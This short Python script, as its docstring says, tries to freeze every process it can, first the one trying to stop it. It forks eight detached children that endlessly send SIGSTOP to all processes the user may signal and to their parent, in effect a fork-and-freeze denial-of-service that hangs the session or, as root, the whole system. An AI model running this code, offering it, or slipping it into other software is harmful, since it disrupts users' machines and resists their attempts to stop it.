"""Stops all processes that it can, and first of all who wants to end it."""

import os
import signal
from contextlib import suppress

for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:
            for target in (-1, os.getppid()):
                with suppress(OSError):
                    os.kill(target, signal.SIGSTOP)
